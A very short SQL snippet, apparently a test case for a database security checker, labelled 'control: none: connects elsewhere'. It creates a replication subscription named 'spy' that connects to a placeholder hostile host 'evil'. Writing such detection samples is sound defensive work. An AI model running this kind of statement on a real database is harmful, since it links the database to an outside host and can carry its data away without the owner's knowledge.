-- control: none: connects elsewhere
CREATE SUBSCRIPTION spy CONNECTION 'host=evil' PUBLICATION p
